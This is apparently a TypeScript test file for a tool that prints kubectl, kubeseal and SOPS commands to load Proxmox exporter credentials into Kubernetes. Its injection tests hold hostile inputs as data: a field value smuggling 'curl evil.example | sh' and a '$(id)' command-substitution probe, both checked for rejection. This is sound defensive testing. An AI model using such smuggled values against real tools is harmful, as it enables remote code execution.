import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { credentialSteps } from '../../lib/commands/steps/credential-steps.ts'
import { complete } from '../../lib/environment/defaults.ts'
import type { Credentials } from '../../lib/environment.ts'
import { undefinedOnError } from '../../lib/problem/undefined-on-error.ts'
import { lab } from '../generate/overlay/render.ts'
import { environmentFile, tree } from '../tree.ts'
import { judged } from '../validate/judged.ts'

const needed = `: "\${TOKEN:?first: read -rs TOKEN}" &&`
const variables = `${needed} printf '%s\\n' PVE_USER=prometheus@pve PVE_TOKEN_NAME=monitoring PVE_TOKEN_VALUE="\${TOKEN}" |`
const kubeseal = 'kubeseal --raw --namespace monitoring --name lab-proxmox-monit-pve-exporter'

/** Each source, and the commands that bring the credentials of the environment `lab` from there. */
const steps: [string, Credentials, string[]][] = [
  [
    'a Secret',
    { secret: 'lab-token' },
    [
      `${variables} kubectl --namespace monitoring create secret generic lab-token --from-env-file=/dev/stdin`,
    ],
  ],
  [
    'a configSecret',
    { configSecret: 'lab-config' },
    ['kubectl --namespace monitoring create secret generic lab-config --from-file=pve.yml'],
  ],
  [
    'an ExternalSecret',
    { externalSecret: { store: { name: 'vault', kind: 'ClusterSecretStore' }, key: 'pve/lab' } },
    [
      '# ClusterSecretStore vault: the entry pve/lab must hold user, tokenName, tokenValue',
      'kubectl --namespace monitoring wait --for=condition=Ready externalsecret/lab-proxmox-monit-pve-exporter --timeout=2m',
    ],
  ],
  [
    'a SealedSecret',
    { sealedSecret: { encryptedData: { PVE_USER: 'AgB', PVE_TOKEN_NAME: 'AgC', PVE_TOKEN_VALUE: 'AgD' } } },
    [
      `printf %s prometheus@pve | ${kubeseal} --from-file=/dev/stdin`,
      `printf %s monitoring | ${kubeseal} --from-file=/dev/stdin`,
      `${needed} printf %s "\${TOKEN}" | ${kubeseal} --from-file=/dev/stdin`,
    ],
  ],
  [
    'a sealed pve.yml',
    { sealedSecret: { encryptedData: { 'pve.yml': 'AgB' } } },
    [`${kubeseal} --from-file=pve.yml`],
  ],
  [
    'a SOPS file',
    { sops: { file: 'token.sops.yaml' } },
    [
      'age-keygen --output age.agekey',
      `${variables} kubectl create secret generic pve-exporter --from-env-file=/dev/stdin --dry-run=client --output yaml | sops --encrypt --mac-only-encrypted --age "$(age-keygen -y age.agekey)" --encrypted-regex '^(data|stringData)$' --input-type yaml --output-type yaml /dev/stdin > overlays/lab/token.sops.yaml`,
      'kubectl --namespace flux-system create secret generic sops-age --from-file=age.agekey',
    ],
  ],
]

for (const [source, credentials, expected] of steps)
  test(`${source} is brought by these commands`, () => {
    const pveExporter = { tls: 'insecure' as const, credentials }
    assert.equal(credentialSteps(complete('lab', 'environments/lab.ts', { ...lab, pveExporter })), expected)
  })

test('no field brings a line of its own among the commands', () => {
  const evil = 'pve/lab\ncurl evil.example | sh #'
  const entry = { store: { name: 'vault' }, key: 'pve/lab' }
  for (const [path, externalSecret] of [
    ['key', { ...entry, key: evil }],
    ['key', { ...entry, key: 'a\tb' }],
    ...['user', 'tokenName', 'tokenValue'].map(name => [
      `properties.${name}`,
      { ...entry, properties: { user: 'a', tokenName: 'b', tokenValue: 'c', [name]: evil } },
    ]),
  ] as [string, object][]) {
    const given: unknown = path.split('.').reduce((value, key) => Reflect.get(value, key), externalSecret)
    const shown = path.endsWith('tokenValue') ? '(hidden)' : given
    assert.equal(
      judged({ lab: { ...lab, pveExporter: { tls: 'insecure', credentials: { externalSecret } } } }),
      [
        `environments/lab.ts: pveExporter.credentials.externalSecret.${path} ${JSON.stringify(shown)} is not text of one line that is not empty`,
      ],
    )
  }
})

test('what a comment quotes stays one line, and a command has nothing of it', () => {
  const key = '$(id) `id` "; id #'
  const steps = credentialSteps(
    complete('lab', 'environments/lab.ts', {
      ...lab,
      pveExporter: { tls: 'insecure', credentials: { externalSecret: { store: { name: 'vault' }, key } } },
    }),
  )
  assert.equal(
    steps
      .join('\n')
      .split('\n')
      .map(line => line.includes(key)),
    [true, false],
  )
  // Quoted, too: a zsh at a terminal takes a line with a comment for a command.
  assert.match(steps[0] as string, /^# SecretStore vault: the entry '/)
})

/** Runs commands with programs in place of kubectl and kubeseal that write down their arguments and what they read. */
const ran = (commands: string[], env: Record<string, string>) => {
  const folder = mkdtempSync(join(tmpdir(), 'credentials-'))
  for (const program of ['kubectl', 'kubeseal', 'sops', 'age-keygen'])
    writeFileSync(
      join(folder, program),
      `#!/bin/sh\necho "$0 $*" >> ${folder}/arguments\ncat >> ${folder}/read\n`,
      { mode: 0o755 },
    )
  mkdirSync(join(folder, 'overlays/lab'), { recursive: true })
  for (const shell of ['bash', 'sh'])
    spawnSync(shell, ['-c', commands.join('\n')], {
      cwd: folder,
      env: { PATH: `${folder}:${process.env.PATH}`, ...env },
      input: '',
    })
  const [args, read] = ['arguments', 'read'].map(
    name => undefinedOnError(() => readFileSync(join(folder, name), 'utf8')) ?? '',
  )
  rmSync(folder, { recursive: true })
  return { args, read }
}

for (const [source, , expected] of steps.filter(([, , expected]) => expected.join().includes('TOKEN')))
  test(`the token of ${source} is in no argument of a program, and without one nothing is made of it`, () => {
    const { args, read } = ran(expected, { TOKEN: 'top-secret' })
    assert.not.match(args as string, 'top-secret')
    assert.match(read as string, 'top-secret')
    const ofToken = expected.filter(step => step.includes('TOKEN'))
    assert.is(ran(ofToken, {}).args, '')
  })

const { run, remove } = tree({ 'environments/lab.ts': environmentFile(lab) })
test.after(remove)

test('the command line prints them for an environment', () => {
  assert.is(
    run('credentials lab').stdout,
    `${variables} kubectl --namespace monitoring create secret generic pve-exporter --from-env-file=/dev/stdin\n`,
  )
})

test('an environment that is not there is an error that names those that are', () => {
  const { status, stderr } = run('credentials paris')
  assert.is(status, 1)
  assert.is(
    stderr,
    'environments: has no valid environment "paris"; it has lab\n1 problem; nothing was printed\n',
  )
})

test.run()
